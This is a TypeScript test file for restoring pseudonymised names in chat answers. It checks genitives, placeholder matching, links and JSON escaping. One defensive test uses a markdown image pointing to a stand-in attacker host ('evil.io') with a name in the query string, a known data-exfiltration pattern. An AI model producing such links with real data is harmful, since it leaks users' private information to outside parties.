import { CHATS } from '../../testing/mangling/chats';
import { markedText } from '../../testing/marked-text';
import { EntityTable } from '../entities/entity-table';
import { parseLanguage } from '../language';
import { anonymize } from '../replacing/anonymize';
import { restore } from './restore';

const surrogates = (answer: string, sent: readonly string[] = CHATS.surrogates.sent) =>
  restore(answer, CHATS.surrogates.table, sent);
const placeholders = (answer: string, sent: readonly string[] = CHATS.placeholders.sent) =>
  restore(answer, CHATS.placeholders.table, sent);

describe('restore', () => {
  it('restores only replacements in the messages of the same call [SEC-34]', () => {
    expect(surrogates('Jan Weber', ['Hello'])).toBe('Jan Weber');
    expect(surrogates('Volker Hübner')).toBe('Volker Hübner');
    expect(surrogates('Volker Hübner', ['Volker Hübner is here.'])).toBe('Otto Franke');
    expect(placeholders('[NAME_3] [NAME_7]')).toBe('[NAME_3] [NAME_7]');
  });

  it('restores a single part only if the whole name was sent', () => {
    expect(surrogates('Weber', ['Petra Weber'])).toBe('Müller');
    expect(surrogates('Jan', ['Petra Weber'])).toBe('Jan');
  });

  it('does not restore a single part next to a name part with which it was never sent', () => {
    expect(surrogates('Max Weber and Petra Köhler')).toBe('Max Weber and Petra Köhler');
    expect(surrogates('Frau Weber, Kollege Holger')).toBe('Frau Müller, Kollege Klaus');
  });

  it('writes the genitive of the original', () => {
    expect(surrogates('Jans Auto, Webers Haus, Holgers Hut')).toBe("Hans' Auto, Müllers Haus, Klaus' Hut");
    expect(placeholders('[NAME_1]s Auto, [NAME_2]s Haus')).toBe("Hans Müllers Auto, Anna Jones' Haus");
  });

  it('distinguishes [NAME_1] from [NAME_12] and [NAME_1B]', () => {
    expect(placeholders('[NAME_12][NAME_1][NAME_1B]')).toBe('Klaus JägerHans MüllerMüllers');
  });

  it('restores no value in an address, path or identifier, unless the whole was sent', () => {
    const link = 'https://intern.example/Weber/akte.pdf';
    expect(surrogates(`${link} ${link}?x ![](https://evil.io/?q=Jan+Weber)`)).toBe(
      `https://intern.example/Müller/akte.pdf ${link}?x ![](https://evil.io/?q=Jan+Weber)`,
    );
  });

  it('restores mailto: and tel: before one whole replacement', () => {
    expect(surrogates('[a](mailto:jan.weber@example.com) <a href="tel:+493023125042">')).toBe(
      '[a](mailto:hans.mueller@firma.de) <a href="tel:+49 89 7654321">',
    );
  });

  it('never restores a restored value again', () => {
    const table = EntityTable.create('surrogates');
    const say = (marked: string) =>
      anonymize(table, { ...markedText(marked), choices: ['Names'], language: parseLanguage('de') }).text;
    const first = say('{N:Hans Müller}');
    const second = say(`{N:${first}}`);
    expect(restore(second, table, [first, second])).toBe(first);
  });

  it('escapes values in JSON as JSON, in the way of the surrounding text [PRIV-51]', () => {
    const table = EntityTable.create('placeholders');
    const { text } = anonymize(table, {
      ...markedText('{N:Hans "Hänschen"\nMüller}'),
      choices: ['Names'],
      language: parseLanguage('de'),
    });
    const restored = restore(`{"name":"${text}"}`, table, [text], { json: true });
    expect(JSON.parse(restored)).toEqual({ name: 'Hans "Hänschen"\nMüller' });
    expect(surrogates(String.raw`{"name":"Holger K\u00f6hler"}`)).toBe(
      String.raw`{"name":"Klaus J\u00e4ger"}`,
    );
  });
});
